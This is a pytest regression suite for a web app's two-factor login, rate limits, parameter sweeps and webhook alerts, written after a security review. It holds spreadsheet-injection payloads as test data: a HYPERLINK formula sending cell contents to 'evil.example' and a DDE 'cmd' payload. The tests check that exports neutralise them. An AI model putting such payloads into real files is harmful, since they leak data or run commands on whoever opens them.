"""Attack round 2 (issue 16's features: two-factor authentication, rate limits, sweeps, alerts), on SQLite and
PostgreSQL. Each test is a defect found by attacking the feature, kept so that it stays fixed:

* a failing webhook's error text carried the webhook's path (its secret) into the page, the log and the audit;
* sweep CSV/XLSX exports wrote user-typed grid values as spreadsheet formulas (no formula guard);
* hostile grids: a range whose count overflows a float crashed with OverflowError, a range finer than the stored
  precision and a service grid listing a value twice produced duplicate variants, NaN/inf values were accepted;
* with ADMIN_2FA=required an administrator without two-factor authentication still had an administrator's reach
  through the services open to every role (other users' runs, sweeps and reports);
* an administrator could remove their own second factor through the admin reset, without a code;
* cancelling a sweep that completed meanwhile marked its run cancelled (and audited a cancel) after it succeeded;
* rate-limit settings with a zero or an absurd window ("5/0 minute", "5/99999999999 years") were accepted: the
  first silently became "5 per 1 minute"; with the second Redis errs on the key's expiry and keeps the key for
  ever (one action, then refusals "try again in 51840000000000001879048192 minutes").
"""

from __future__ import annotations

import datetime as dt
import io
import json
import logging
import socket

import pytest
from sqlalchemy import func, select

from core.errors import ConfigurationError, NotFoundError, PermissionDenied, ValidationFailed

PASSWORD = "correct horse battery"
SECRET_PATH = "/services/T000/B000/attack-round-two-secret"
T0 = dt.datetime(2026, 3, 2, 9, 0, 10, tzinfo=dt.timezone.utc)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def admin_2fa_required(monkeypatch):  # type: ignore[no-untyped-def]
    from core.config import reset_settings_cache

    monkeypatch.setenv("ADMIN_2FA", "required")
    reset_settings_cache()
    yield
    monkeypatch.delenv("ADMIN_2FA")
    reset_settings_cache()


# --------------------------------------------------------------------------- alerts: the webhook's secret
def test_an_unreachable_webhook_never_shows_its_path_in_the_page_the_log_or_the_audit(db, caplog):
    from core.services import alerts, audit, users

    users.create_user("alice", "Alice", PASSWORD, role="admin")
    url = f"http://127.0.0.1:{_free_port()}{SECRET_PATH}"  # nothing listens: requests' error names the URL
    alerts.save_settings({"webhook_url": url}, actor="alice")
    with caplog.at_level(logging.WARNING):
        results = alerts.send_test(actor="alice")
    assert results["webhook"] != "ok"
    assert "ConnectionError" in results["webhook"]  # still says what went wrong
    secret = "attack-round-two-secret"
    assert secret not in results["webhook"]
    assert secret not in caplog.text
    events = audit.list_events(action="alert.test")
    assert secret not in json.dumps(events["detail"].tolist()) + " ".join(map(str, events["message"].tolist()))


# --------------------------------------------------------------------------- sweeps
def _seed_sweeps() -> None:
    from core.services import users
    from core.services.bootstrap import seed_demo
    from core.services.strategies import ensure_default_config

    seed_demo(n_assets=14, years=1, end=dt.date(2024, 12, 31))
    ensure_default_config()
    users.create_user("ada", "Ada", PASSWORD)


def test_sweep_exports_neutralise_formulas_typed_in_the_grid(db):
    import openpyxl

    from core.schemas.sweep import parse_param
    from core.services import sweeps
    from core.services.reporting.formula_guard import FORMULA_TRIGGERS

    _seed_sweeps()
    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    grid = {"axes": [{"name": "rebalance", "values": [hostile, "monthly", "@SUM(1+1)"]}]}
    sweep = sweeps.start("ada", grid)
    assert sweep.status == "succeeded"
    text = sweeps.export_csv(sweep.id, "ada").decode()
    import csv

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in c for c in cells)  # the value is kept, made inert
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
    book = openpyxl.load_workbook(io.BytesIO(sweeps.export_xlsx(sweep.id, "ada")))
    values = [cell for row in book["Variants"].iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert not [c.value for c in values if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    # the same through the form's parser (the Research page and the command line)
    axis = parse_param("rebalance=+cmd|' /C calc'!A0,monthly")
    assert axis.values[0].startswith("+")  # a text value: only the export must neutralise it


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "param",
    [
        "momentum_lookback=0:1e308:1e-308",  # (stop - start) / step overflows to inf
        "cost_bps=0:1e300:1e-300",
    ],
)
def test_a_range_too_fine_to_count_is_refused_with_a_message(param):
    from core.schemas.sweep import parse_param

    with pytest.raises(ValidationFailed) as refused:
        parse_param(param)
    assert "param" in refused.value.errors


def test_a_range_finer_than_the_stored_precision_gives_no_duplicate_variants():
    from core.schemas.sweep import parse_param

    try:
        axis = parse_param("cost_bps=1:1.00000000000001:0.000000000000001")
    except ValidationFailed as refused:
        assert "param" in refused.errors
    else:
        assert len(axis.values) == len(set(axis.values))


@pytest.mark.parametrize(
    "values, why",
    [
        ([3, 3], "twice"),
        ([3, 3.0], "twice"),
        ([float("nan")], "finite"),
        ([float("inf"), 3], "finite"),
    ],
)
def test_a_service_grid_with_repeated_or_non_finite_values_is_refused(values, why):
    from core.schemas.sweep import Grid

    with pytest.raises(ValidationFailed, match=why):
        Grid.model_validate({"axes": [{"name": "top_n", "values": values}]}).check()


def test_a_grid_of_many_axes_that_multiply_past_the_limit_is_refused_before_anything_is_stored(db):
    from core.db import unit_of_work
    from core.models import Sweep
    from core.schemas.sweep import parse_grid
    from core.services import sweeps

    _seed_sweeps()
    assert parse_grid(["top_n=1:101:1", "momentum_lookback=1:99:1"]).count == 9_999  # allowed; x2 is not:
    grid = {
        "axes": [
            {"name": "top_n", "values": list(range(1, 102))},
            {"name": "momentum_lookback", "values": list(range(1, 100))},
            {"name": "cost_bps", "values": [0, 1]},
        ]
    }
    with pytest.raises(ValidationFailed, match="at most 10,000"):
        sweeps.start("ada", grid)
    with unit_of_work() as session:
        assert session.scalar(select(func.count(Sweep.id))) == 0


def _running_sweep(owner: str, run_state: str = "running") -> tuple[int, int]:
    """A sweep row and its parent run, as a worker would have them mid-way; returns (sweep id, run id)."""
    from core.db import unit_of_work
    from core.models import Sweep, TaskRun

    with unit_of_work() as session:
        run = TaskRun(
            kind="sweep", args={}, state=run_state, progress=0.5, attempts=1, queued_by=owner, message="running"
        )
        session.add(run)
        session.flush()
        sweep = Sweep(
            owner=owner,
            config_id=None,
            config_label="Default v1",
            base_params={},
            grid={"axes": [{"name": "top_n", "values": [3, 5]}]},
            n_variants=2,
            n_chunks=1,
            status="running",
            task_run_id=run.id,
        )
        session.add(sweep)
        session.commit()
        return sweep.id, run.id


def test_cancelling_a_sweep_that_completed_meanwhile_leaves_its_run_succeeding(db, monkeypatch):
    from core.db import unit_of_work
    from core.models import Sweep, TaskRun
    from core.services import audit, sweeps, users

    users.create_user("ada", "Ada", PASSWORD)
    sweep_id, run_id = _running_sweep("ada")
    original = sweeps._set_status

    def completed_first(sid, status, from_states, **values):  # type: ignore[no-untyped-def]
        if status == "cancelled":  # the last chunk is stored between the cancel's read and its write
            original(sid, "succeeded", ("running",), finished_at=dt.datetime.now(dt.timezone.utc))
        return original(sid, status, from_states, **values)

    monkeypatch.setattr(sweeps, "_set_status", completed_first)
    with pytest.raises(ValidationFailed, match="succeeded"):
        sweeps.cancel(sweep_id, "ada")
    with unit_of_work() as session:
        assert session.get(Sweep, sweep_id).status == "succeeded"
        assert session.get(TaskRun, run_id).state == "running"  # its worker finishes it as succeeded
    assert audit.list_events(action="sweep.cancel").empty


def test_another_analyst_cannot_reach_a_sweep_by_its_id(db):
    from core.services import sweeps, users

    users.create_user("ada", "Ada", PASSWORD)
    users.create_user("eve", "Eve", PASSWORD)
    sweep_id, _ = _running_sweep("ada")
    for action in (
        lambda: sweeps.get_sweep(sweep_id, "eve"),
        lambda: sweeps.cancel(sweep_id, "eve"),
        lambda: sweeps.export_csv(sweep_id, "eve"),
        lambda: sweeps.promote(sweep_id, 0, "eve"),
        lambda: sweeps.variant_params(sweep_id, 0, "eve"),
        lambda: sweeps.delete_sweep(sweep_id, "eve"),
    ):
        with pytest.raises(NotFoundError):
            action()
    assert [s.id for s in sweeps.list_sweeps("eve")] == []
    assert sweeps.get_sweep(sweep_id, "ada").status == "running"


# --------------------------------------------------------------------------- ADMIN_2FA=required
def test_an_admin_without_two_factor_has_no_admin_reach_through_services_open_to_all(db, admin_2fa_required):
    from core.services import runs, sweeps, users

    users.create_user("boss", "Boss", PASSWORD, role="admin")
    users.create_user("ada", "Ada", PASSWORD)
    sweep_id, run_id = _running_sweep("ada")
    with pytest.raises((NotFoundError, PermissionDenied)):
        sweeps.get_sweep(sweep_id, "boss")
    with pytest.raises((NotFoundError, PermissionDenied)):
        sweeps.cancel(sweep_id, "boss")
    with pytest.raises((NotFoundError, PermissionDenied)):
        runs.get_run(run_id, "boss")
    assert all(s.owner == "boss" for s in sweeps.list_sweeps("boss"))
    assert sweeps.get_sweep(sweep_id, "ada").status == "running"


def test_an_admin_cannot_remove_their_own_second_factor_without_a_code(db):
    from core.services import two_factor, users

    users.create_user("boss", "Boss", PASSWORD, role="admin")
    enrolment = two_factor.begin_enrolment("boss")
    two_factor.confirm_enrolment("boss", two_factor.code_at(enrolment.secret, two_factor.time_step(T0)), now=T0)
    with pytest.raises(ValidationFailed, match="Account page"):
        two_factor.reset("boss", actor="boss")
    assert users.get_user("boss").two_factor_enabled


# --------------------------------------------------------------------------- rate-limit settings
@pytest.mark.parametrize(
    "value",
    ["5/0 minute", "5/99999999999999999999 years", "5/100000 days", "99999999999999999999/minute", "5/minute;0/hour"],
)
def test_a_rate_limit_with_a_zero_or_absurd_window_stops_start_up(value, data_dir, monkeypatch):
    from core.config import get_settings, reset_settings_cache

    monkeypatch.setenv("RATE_LIMIT_REPORT", value)
    reset_settings_cache()
    try:
        with pytest.raises(ConfigurationError, match="RATE_LIMIT_REPORT"):
            get_settings()
    finally:
        monkeypatch.delenv("RATE_LIMIT_REPORT")
        reset_settings_cache()


def test_sane_rate_limits_still_start(data_dir, monkeypatch):
    from core.config import get_settings, reset_settings_cache

    for value in ("30/minute", "5/second;100/hour", "1000 per day", "2/30 seconds", "off"):
        monkeypatch.setenv("RATE_LIMIT_REPORT", value)
        reset_settings_cache()
        assert get_settings().rate_limit_report in (None, value)
    monkeypatch.delenv("RATE_LIMIT_REPORT")
    reset_settings_cache()


# --------------------------------------------------------------------------- two-factor: what held
def _code(secret: str, now: dt.datetime) -> str:
    from core.services import two_factor

    return two_factor.code_at(secret, two_factor.time_step(now))


def _challenge(username: str, now: dt.datetime):  # type: ignore[no-untyped-def]
    from core.services import users

    with pytest.raises(users.TwoFactorRequired) as raised:
        users.authenticate(username, PASSWORD, now=now)
    return raised.value.challenge


def test_a_challenge_dies_with_a_role_change_deactivation_or_reset_and_cannot_name_another_user(db):
    import dataclasses

    from core.errors import AuthenticationError
    from core.services import two_factor, users

    users.create_user("boss", "Boss", PASSWORD, role="admin")
    users.create_user("alice", "Alice", PASSWORD)
    users.create_user("bob", "Bob", PASSWORD)
    secrets = {}
    for name in ("alice", "bob"):
        enrolment = two_factor.begin_enrolment(name)
        two_factor.confirm_enrolment(name, _code(enrolment.secret, T0), now=T0)
        secrets[name] = enrolment.secret
    changes = [
        lambda: users.update_user("alice", actor="boss", role="admin"),
        lambda: users.update_user("alice", actor="boss", is_active=False),
        lambda: users.set_password("alice", "another long password 7", actor="boss"),
        lambda: two_factor.reset("alice", actor="boss"),
    ]
    for k, change in enumerate(changes, start=1):
        now = T0 + dt.timedelta(seconds=60 * k)
        pending = _challenge("alice", now)
        change()
        with pytest.raises(AuthenticationError):
            two_factor.complete_login(pending, _code(secrets["alice"], now), now=now)
        if k == 2:
            users.update_user("alice", actor="boss", is_active=True)
        if k == 3:
            users.set_password("alice", PASSWORD, actor="boss")
    # alice's challenge altered to name bob is refused, even with bob's right code
    now = T0 + dt.timedelta(minutes=10)
    pending = _challenge("bob", now)
    bob_id = pending.user_id
    users.create_user("carol", "Carol", PASSWORD)
    enrolment = two_factor.begin_enrolment("carol")
    two_factor.confirm_enrolment("carol", _code(enrolment.secret, now), now=now)
    forged = dataclasses.replace(_challenge("carol", now + dt.timedelta(seconds=30)), user_id=bob_id, username="bob")
    with pytest.raises(AuthenticationError, match="expired"):
        two_factor.complete_login(
            forged, _code(secrets["bob"], now + dt.timedelta(seconds=30)), now=now + dt.timedelta(seconds=30)
        )
    assert users.get_user("bob").last_login_at is None


def test_a_code_of_the_previous_step_is_refused_after_a_later_one_was_used(db):
    from core.errors import AuthenticationError
    from core.services import two_factor, users

    users.create_user("alice", "Alice", PASSWORD)
    enrolment = two_factor.begin_enrolment("alice")
    two_factor.confirm_enrolment("alice", _code(enrolment.secret, T0), now=T0)
    now = T0 + dt.timedelta(minutes=2)
    two_factor.complete_login(_challenge("alice", now), _code(enrolment.secret, now), now=now)
    earlier = two_factor.code_at(enrolment.secret, two_factor.time_step(now) - 1)  # inside the +-1 window
    with pytest.raises(AuthenticationError, match="already used"):
        two_factor.complete_login(_challenge("alice", now), earlier, now=now)


# --------------------------------------------------------------------------- a limited action leaves nothing
@pytest.fixture
def job_limit_of_one(monkeypatch):  # type: ignore[no-untyped-def]
    from core.config import reset_settings_cache

    monkeypatch.setenv("RATE_LIMIT_JOB", "1/minute")
    monkeypatch.setenv("RATE_LIMIT_SWEEP", "off")
    monkeypatch.setenv("RATE_LIMIT_REPORT", "off")
    monkeypatch.setenv("EMBEDDED_WORKER", "false")
    reset_settings_cache()
    yield
    reset_settings_cache()


def test_a_sweep_refused_by_the_job_limit_leaves_no_row_and_no_audit_of_a_start(db, job_limit_of_one, monkeypatch):
    from core.db import unit_of_work
    from core.infra import ratelimit
    from core.infra.ratelimit import RateLimited
    from core.models import Sweep, SweepChunk, TaskRun
    from core.services import audit, sweeps

    _seed_sweeps()
    grid = {"axes": [{"name": "top_n", "values": [3, 5]}]}
    first = sweeps.start("ada", grid, queue=True)

    def rows() -> tuple[list[int], int, int]:
        with unit_of_work() as session:
            return (
                [s.id for s in session.scalars(select(Sweep))],
                int(session.scalar(select(func.count(SweepChunk.id)).where(SweepChunk.sweep_id != first.id))),
                int(session.scalar(select(func.count(TaskRun.id)))),
            )

    with pytest.raises(RateLimited, match="queued jobs"):
        sweeps.start("ada", grid, queue=True)
    assert rows() == ([first.id], 0, 1)
    assert list(audit.list_events(action="sweep.start")["outcome"]) == ["ok"]  # no start of a sweep that is not
    # the job's token taken by another request between the check and the queueing: undone, and audited as such
    monkeypatch.setattr(ratelimit, "check", lambda action, who: None)
    with pytest.raises(RateLimited, match="queued jobs"):
        sweeps.start("ada", grid, queue=True)
    assert rows() == ([first.id], 0, 1)
    events = audit.list_events(action="sweep.start")
    assert list(events["outcome"]) == ["error", "ok"]
    assert events["message"].iloc[0].startswith("not queued: ") and "queued jobs" in events["message"].iloc[0]


def test_a_report_refused_by_the_job_limit_leaves_no_row_and_no_audit_of_a_request(db, job_limit_of_one):
    from core.db import unit_of_work
    from core.infra.ratelimit import RateLimited
    from core.models import Report
    from core.services import audit, compute, reports, strategies
    from core.services.bootstrap import seed_demo

    seed_demo(n_assets=14, years=1, end=dt.date(2024, 12, 31))
    compute.compute_config(strategies.ensure_default_config().id)
    from core.services import users

    users.create_user("ada", "Ada", PASSWORD)
    first = reports.request_report("performance", "max", "csv", owner="ada")
    with pytest.raises(RateLimited, match="queued jobs"):
        reports.request_report("performance", "max", "csv", owner="ada")
    with unit_of_work() as session:
        assert [r.id for r in session.scalars(select(Report))] == [first]
    assert list(audit.list_events(action="report.request")["outcome"]) == ["ok"]


def test_an_enrolment_racing_an_admin_reset_or_another_tab_cannot_be_confirmed(db):
    from core.services import two_factor, users
    from core.services.access import Actor

    users.create_user("boss", "Boss", PASSWORD, role="admin")
    users.create_user("alice", "Alice", PASSWORD)
    tab = Actor("alice", users.get_user("alice").credential_version)
    first = two_factor.begin_enrolment(tab)
    second = two_factor.begin_enrolment(tab)  # another tab started again: the first secret is gone
    with pytest.raises(ValidationFailed):
        two_factor.confirm_enrolment(tab, _code(first.secret, T0), now=T0)
    two_factor.reset("alice", actor="boss")  # an admin resets while the second tab shows its QR code
    with pytest.raises(PermissionDenied):
        two_factor.confirm_enrolment(tab, _code(second.secret, T0), now=T0)
    assert not users.get_user("alice").two_factor_enabled
